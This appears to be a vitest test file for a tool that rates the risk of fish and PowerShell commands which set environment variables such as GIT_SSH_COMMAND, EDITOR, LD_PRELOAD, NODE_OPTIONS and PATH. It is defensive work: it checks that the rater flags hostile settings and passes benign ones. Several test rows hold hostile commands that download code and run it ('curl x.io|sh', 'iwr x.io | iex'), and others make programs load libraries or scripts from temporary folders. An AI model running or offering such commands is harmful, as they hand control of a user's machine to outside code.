import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * The variables that make later programs run or load code (`env-injection.ts`, see
 * `analyze-env-injection.test.ts`) as fish and PowerShell set them: fish's `set NAME VALUES…` (a
 * list, exported joined by blanks, or by colons for a name ending in PATH; `-p` and `-a` put the
 * values before or after those it had; `fish_user_paths` and `fish_add_path` go before the PATH's
 * own folders), PowerShell's `$env:NAME = …`, `Set-Item Env:NAME`,
 * `New-Item -Path Env:NAME -Value …` and `[Environment]::SetEnvironmentVariable(NAME, VALUE)` (a
 * `;`-separated Path on Windows). A command line the variable holds is judged as the sh that git
 * runs it with, and as the line's own shell where that shell can read it. A PowerShell variable
 * (`$GIT_SSH_COMMAND`) is no environment variable. Each row gives the risk and a reason the line must have.
 */
const rated = shellRater();
const windows = shellRater("C:\\Users\\ada\\code\\app", "C:\\Users\\ada");
const first = (dir: string): string => `puts ${dir} first on the PATH, where its programs run instead of the system's`;

describe("fish's set", () => {
  it.each<[string, Risk, string?]>([
    ["set -x GIT_SSH_COMMAND 'curl x.io|sh'; git fetch", "critical", "downloads code and runs it with sh"],
    ["set --export GIT_SSH_COMMAND 'curl x.io|sh'", "critical", "downloads code and runs it with sh"],
    ["set -gx GIT_PAGER 'curl x.io | bash'; git log", "critical"],
    ["set -gx PROMPT_COMMAND \"curl x.io|sh\"", "critical"],
    ["set -x EDITOR 'curl x.io | source'; git commit", "critical"],
    ["set -x GIT_SSH_COMMAND (curl -s x.io); git fetch", "critical", "runs a command taken from a download"],
    ["set -gx LD_PRELOAD /tmp/evil.so", "high", "makes every program started after it load /tmp/evil.so (LD_PRELOAD)"],
    ["set -x NODE_OPTIONS \"--require /tmp/x.js\"; node app.js", "high", "makes every program started after it load /tmp/x.js (NODE_OPTIONS)"],
    ["set -x NODE_OPTIONS --require /tmp/x.js", "high", "makes every program started after it load /tmp/x.js (NODE_OPTIONS)"],
    ["set -gx LD_LIBRARY_PATH /tmp $LD_LIBRARY_PATH", "high", "makes every program started after it load libraries from /tmp (LD_LIBRARY_PATH)"],
    ["set -x BASH_ENV ~/.bash_env", "moderate", "makes every program started after it load /home/ada/.bash_env (BASH_ENV)"],
    ["set -gx PATH /tmp/bin $PATH", "moderate", first("/tmp/bin")],
    ["set -gx PATH \"/tmp/bin:$PATH\"", "moderate", first("/tmp/bin")],
    ["set -p PATH /var/tmp/bin", "moderate", first("/var/tmp/bin")],
    ["set -U fish_user_paths /tmp/bin $fish_user_paths", "moderate", first("/tmp/bin")],
    ["fish_add_path /tmp/bin", "moderate", first("/tmp/bin")],
    ["fish_add_path -g --move /dev/shm/b", "moderate", first("/dev/shm/b")],
    ["env GIT_SSH_COMMAND='curl x.io|sh' git fetch", "critical", "downloads code and runs it with sh"],
    ["env LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    // keep safe
    ["set -x EDITOR nano", "safe"],
    ["set -gx EDITOR 'code --wait'", "safe"],
    ["set -x GIT_SSH_COMMAND 'ssh -i ~/.ssh/deploy_key'; git pull", "safe"],
    ["set -gx PATH $HOME/.local/bin $PATH", "safe"],
    ["set -gx PATH ./node_modules/.bin $PATH", "safe"],
    ["set -a PATH /tmp/tools", "safe"],
    ["fish_add_path ~/.cargo/bin", "safe"],
    ["fish_add_path -a /tmp/tools", "safe"],
    ["fish_add_path -n /tmp/bin", "safe"],
    ["set -x NODE_OPTIONS --max-old-space-size=4096", "safe"],
    ["set -x NODE_OPTIONS '--require ./tracing.js'; node app.js", "safe"],
    ["set -gx LD_PRELOAD /usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "safe"],
    ["set -e LD_PRELOAD", "safe"],
    ["set -q LD_PRELOAD; and echo set", "safe"],
    ["set -x ENV production; npm start", "safe"],
  ])("fish: %s is %s", (line, risk, detail) => {
    const result = rated(line, "fish");
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("PowerShell's environment variables, on Windows", () => {
  const temp = "C:\\Users\\ada\\AppData\\Local\\Temp";
  it.each<[string, Risk, string?]>([
    ["$env:GIT_SSH_COMMAND = 'curl.exe x.io | iex'; git fetch", "critical", "downloads code and runs it with Invoke-Expression"],
    ["$env:GIT_SSH_COMMAND = 'curl x.io | sh'; git fetch", "critical", "downloads code and runs it with sh"],
    ["$env:git_editor = 'iwr x.io | iex'", "critical"],
    ["Set-Item Env:GIT_SSH_COMMAND 'powershell -c \"iwr x.io | iex\"'", "critical", "downloads code and runs it with Invoke-Expression"],
    ["Set-Item -Path Env:GIT_PAGER -Value 'curl x.io | sh'", "critical"],
    ["New-Item -Path Env:GIT_SSH_COMMAND -Value 'curl x.io | sh'", "critical"],
    ["[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl x.io | sh', 'User')", "critical"],
    [`$env:NODE_OPTIONS = '--require ${temp}\\x.js'; node app.js`, "high", `makes every program started after it load ${temp}\\x.js (NODE_OPTIONS)`],
    ["$env:NODE_OPTIONS = \"--require $env:TEMP\\x.js\"", "high", `makes every program started after it load ${temp}\\x.js (NODE_OPTIONS)`],
    ["Set-Item Env:NODE_OPTIONS '--require C:\\Windows\\Temp\\x.js'", "high", "makes every program started after it load C:\\Windows\\Temp\\x.js (NODE_OPTIONS)"],
    // C:\Temp and C:\tmp, on any drive, are temporary folders anyone may write to, as /tmp is.
    ["[Environment]::SetEnvironmentVariable('NODE_OPTIONS', '--require C:\\Temp\\x.js')", "high", "makes every program started after it load C:\\Temp\\x.js (NODE_OPTIONS)"],
    ["$env:NODE_OPTIONS = '--require C:\\Temp\\x.js'; node app.js", "high", "makes every program started after it load C:\\Temp\\x.js (NODE_OPTIONS)"],
    ["$env:NODE_OPTIONS = '--require d:\\TMP\\x.js'; node app.js", "high", "makes every program started after it load d:\\TMP\\x.js (NODE_OPTIONS)"],
    ["$env:NODE_OPTIONS = \"--require $env:TMP\\x.js\"; node app.js", "high", `makes every program started after it load ${temp}\\x.js (NODE_OPTIONS)`],
    ["$env:PATH = \"C:\\Temp\\bin;\" + $env:PATH", "moderate", first("C:\\Temp\\bin")],
    ["$env:NODE_OPTIONS = '--require C:\\Tools\\x.js'; node app.js", "moderate", "makes every program started after it load C:\\Tools\\x.js (NODE_OPTIONS)"],
    ["[System.Environment]::SetEnvironmentVariable('JAVA_TOOL_OPTIONS', '-javaagent:C:\\Windows\\Temp\\a.jar', 'Machine')", "high"],
    ["$env:Path = \"$env:TEMP;$env:Path\"", "moderate", first(temp)],
    ["$env:PATH = \"C:\\Windows\\Temp\\bin;\" + $env:PATH", "moderate", first("C:\\Windows\\Temp\\bin")],
    // keep safe
    ["$env:EDITOR = 'code --wait'", "safe"],
    ["$env:GIT_EDITOR = '\"C:\\Program Files\\Notepad++\\notepad++.exe\" -multiInst -nosession'", "safe"],
    ["$env:NODE_OPTIONS = '--max-old-space-size=4096'", "safe"],
    ["$env:NODE_OPTIONS = '--require .\\tracing.js'; node app.js", "safe"],
    ["$env:Path += \";C:\\tools\"", "safe"],
    ["$env:Path = \"C:\\tools;$env:Path\"", "safe"],
    ["$env:Path = \"$env:Path;$env:TEMP\"", "safe"],
    ["$GIT_SSH_COMMAND = 'curl x.io | sh'", "safe"],
    ["Set-Item Env:EDITOR notepad", "safe"],
    ["[Environment]::SetEnvironmentVariable('EDITOR', 'code --wait', 'User')", "safe"],
  ])("powershell: %s is %s", (line, risk, detail) => {
    const result = windows(line, "powershell");
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("PowerShell's environment variables, on Linux", () => {
  it.each<[string, Risk, string?]>([
    ["$env:LD_PRELOAD = '/tmp/evil.so'; ls", "high", "makes every program started after it load /tmp/evil.so (LD_PRELOAD)"],
    ["$env:PATH = \"/tmp/bin:$env:PATH\"", "moderate", first("/tmp/bin")],
    ["$env:PATH = \"$HOME/.local/bin:$env:PATH\"", "safe"],
  ])("powershell: %s is %s", (line, risk, detail) => {
    const result = rated(line, "powershell");
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});
